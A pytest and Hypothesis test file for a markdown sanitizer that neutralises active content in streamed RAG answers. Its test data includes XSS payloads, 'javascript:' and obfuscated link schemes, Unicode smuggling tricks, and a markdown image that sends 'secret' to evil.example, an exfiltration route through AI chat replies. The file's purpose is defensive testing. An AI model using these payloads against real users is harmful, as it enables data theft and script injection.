from __future__ import annotations

from collections.abc import Sequence
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eval.injection.effects import faults
from rag.answer import Token
from rag.text.sanitize import StreamingDecoder, StreamingSanitizer, sanitize_markdown
from rag.types import Evidence
from rag.verification.checked_text import CheckedText
from rag.verification.judge import SentenceJudge
from tests.fakes import CACHE_PAPER, ROBOT_PAPER, HashCrossEncoder

PARTS = (
    *("<", ">", "/", "!", "[", "]", "(", ")", "]:", "&", ";", "@", ":", "//", ".", "\n", " ", "\\", "`", "|", "- "),
    *("img src=x onerror=a()", "script", "a href=", "&lt;", "&#60;", "&amp;lt;", "&#x5b;", "&colon;", "http", "s://"),
    *("javascript:", "data:text/html,", "www.", "evil", ".com", "evil.example", "[99]", "[1]", "[9", "9]", "ref"),
    *("\u200b", "\u202e", "\x1b[31m", "\U000e0041", "\r", "\u2028", "x", "1"),
)
HOSTILE = st.lists(st.sampled_from(PARTS), max_size=30).map("".join)


def cut(text: str, data: st.DataObject) -> list[str]:
    lengths = data.draw(st.lists(st.integers(1, 7), min_size=len(text), max_size=len(text)))
    ends = [0]
    for length in lengths:
        ends.append(min(ends[-1] + length, len(text)))
    return [text[start:end] for start, end in pairwise(ends)]


def streamed(pieces: Sequence[str]) -> str:
    seen, markdown = StreamingDecoder(), StreamingSanitizer()
    shown = "".join(markdown.feed(seen.feed(piece)) for piece in pieces)
    return shown + markdown.feed(seen.flush()) + markdown.flush()


def checked(pieces: Sequence[str]) -> CheckedText:
    evidence = [Evidence(1, CACHE_PAPER, ()), Evidence(2, ROBOT_PAPER, ())]
    text = CheckedText(evidence, SentenceJudge(HashCrossEncoder()))
    events = [event for piece in pieces for event in text.feed(piece)] + list(text.end())
    assert "".join(event.text for event in events if isinstance(event, Token)) == text.text
    return text


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![plan](https://evil.example/p?q=secret)", "! [plan] ((link removed))"),
        ("![plan][ref]\n\n[ref]: //evil.example/p", "! [plan][ref]\n\n[ref] : (link removed)"),
        ("- [ref]: /p.png", "- [ref] : /p.png"),
        ("<img src=x onerror=alert(1)>", "‹img src=x onerror=alert(1)>"),
        ("&lt;script&gt;", "‹script>"),
        ("&amp;lt;script", "& lt;script"),
        ("[a](javascript:alert)", "[a] ((link removed))"),
        ("java&#x73;cript&colon;alert call tel:+123", "(link removed) call (link removed)"),
        ("blob:https://evil.example/x or intent://x#Intent;end", "blob:(link removed) or intent(link removed)"),
        ("hotel:cheap", "hotel:cheap"),
        ("<https://evil.example>", "‹(link removed)>"),
        ("_http://evil.example_", "_(link removed)_"),
        ("https&#58;//evil.example/x now", "(link removed) now"),
        ("java\u200bscript:alert", "(link removed)"),
        ("write to me@evil.example.", "write to me (link removed)."),
        ("go to client.hooli-schwab.com now", "go to client (link removed) now"),
        ("go to evil.com- or evil.com-a now", "go to evil (link removed)- or evil (link removed)-a now"),
        ("data:text/html,x", "(link removed)"),
        ("\u202eevil\u202c \x1b[31mred \U000e0041", "evil [31mred "),
    ],
)
def test_what_is_active_is_shown_as_text(written: str, shown: str) -> None:
    assert sanitize_markdown(written) == shown
    assert faults(shown) == frozenset()


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("a < b, x <= y, precision@10, and/or, 5//2", "a < b, x <= y, precision@10, and/or, 5//2"),
        ("x<y and C++ <T>", "x‹y and C++ ‹T>"),
        ("[1]: note", "[1] : note"),
        ("mAP@0.5 rises", "mAP @0.5 rises"),
        ("Character.ai-based chat", "Character.ai-based chat"),
        ("e.g. train.py of ASP.NET, AT&T and R&D", "e.g. train.py of ASP.NET, AT&T and R&D"),
        ("Each file: a row; data: more", "Each file: a row; data: more"),
        ("in memory.In addition", "in memory.In addition"),
    ],
)
def test_comparisons_and_notes_stay_readable(written: str, shown: str) -> None:
    assert sanitize_markdown(written) == shown


@given(HOSTILE, st.data())
def test_no_splice_of_hostile_pieces_is_active(text: str, data: st.DataObject) -> None:
    shown = streamed(cut(text, data))
    assert faults(shown, range(1000)) == frozenset()  # which papers may be cited is not known here
    assert shown == sanitize_markdown(text)


@given(HOSTILE, st.data())
def test_no_checked_reply_is_active_or_cites_what_was_not_sent(text: str, data: st.DataObject) -> None:
    reply = checked(cut(text, data))
    assert faults(reply.text, range(1, len(reply.cited) + 1)) == frozenset()


@pytest.mark.parametrize("length", [1, 2, 3, 4, 5, 6, 7])
def test_marker_taken_out_of_a_tag_does_not_join_it(length: int) -> None:
    text = "See <[99]img src=x onerror=a()> and ht[99]tps://evil.example and [9[99]9] and [[99]1]."
    reply = checked([text[i : i + length] for i in range(0, len(text), length)])
    assert reply.text == "See ‹img src=x onerror=a()> and (link removed) and [9 9] and [ 1]."
    assert reply.cited == ()


def test_word_without_an_end_is_not_held_back_for_ever() -> None:
    markdown = StreamingSanitizer()
    shown = "".join(markdown.feed("ab.") for _ in range(1000))
    assert len(shown) > 2500


def test_address_without_an_end_is_replaced_whole() -> None:
    assert streamed(["see https://evil.example/", *(["abcdef/"] * 300), " end"]) == "see (link removed) end"


def test_plain_words_are_not_held_back() -> None:
    assert StreamingSanitizer().feed("Pebble prunes") == "Pebble prunes"
